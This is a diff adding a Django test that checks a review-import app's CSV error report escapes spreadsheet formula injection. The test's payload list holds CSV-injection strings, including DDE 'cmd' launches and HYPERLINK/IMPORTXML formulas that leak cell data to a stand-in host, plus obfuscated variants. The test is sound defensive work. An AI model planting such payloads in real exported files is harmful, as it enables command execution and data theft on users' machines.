@@ -210,3 +210,49 @@ class ImportAdminTestCase(ImportViewsTestCase):
         )
         page = self.client.get(reverse("admin:reviews_importbatch_change", args=[batch.pk]))
         self.assertContains(page, "missing")
+
+
+class FormulaInjectionTestCase(BaseTestCase):
+    """OWASP's CSV-injection payloads, and the same with what a spreadsheet skips before the
+    formula (blanks, tab, CR, line feed, zero-width characters) or typed full-width, reach the
+    downloaded error report as text."""
+
+    PAYLOADS = [
+        "=cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "+cmd|' /C notepad'!'B1'",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+        " =1+1",
+        "   +1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "\n-3+3+cmd|' /C calc'!A0",
+        "\u3000=1+1",  # ideographic space
+        "\u200b=1+1",  # zero-width space
+        "\ufeff@SUM(1)",  # byte-order mark
+        "＝1+1",
+        "＋cmd|' /C calc'!A0",
+        "－1+1",
+        "＠SUM(1)",
+        "﹦1+1",  # small equals sign
+        "\u22121+1",  # minus sign
+    ]
+    HARMLESS = ["纯棉T恤 质量差", "a=b", "2024-11-12", "100%", " 快递慢", "'已是文本"]
+
+    def test_the_error_report_carries_every_payload_as_text(self):
+        batch = ImportBatch.objects.create(
+            shop=self.shop, source="file", platform="taobao", status=ImportStatus.DONE
+        )
+        values = self.PAYLOADS + self.HARMLESS
+        for row, raw in enumerate(values, start=2):
+            ImportRowError.objects.create(batch=batch, row=row, column="x", reason="r", raw=raw)
+        self.login(self.lead)
+        response = self.client.get(reverse("import_batch_errors", args=[batch.pk]))
+        text = b"".join(response.streaming_content).decode("utf-8-sig")
+        cells = [row[3] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+        self.assertEqual(len(cells), len(values))
+        for raw, cell in zip(values, cells, strict=True):
+            expected = "'" + raw if raw in self.PAYLOADS else raw
+            self.assertEqual(cell, expected, repr(raw))
